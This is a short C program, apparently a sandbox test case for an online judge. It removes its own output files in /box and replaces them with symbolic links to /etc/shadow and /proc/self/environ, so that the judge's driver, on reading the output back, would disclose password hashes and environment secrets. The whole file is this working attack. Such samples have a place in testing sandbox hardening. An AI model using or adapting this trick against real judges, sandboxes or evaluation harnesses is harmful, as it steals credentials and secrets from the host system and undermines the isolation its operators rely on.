/* Replaces its own stdout file by a link to a secret, hoping the driver reads it back. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    unlink("/box/judge.stdout");
    symlink("/etc/shadow", "/box/judge.stdout");
    unlink("/box/judge.stderr");
    symlink("/proc/self/environ", "/box/judge.stderr");
    return 0;
}
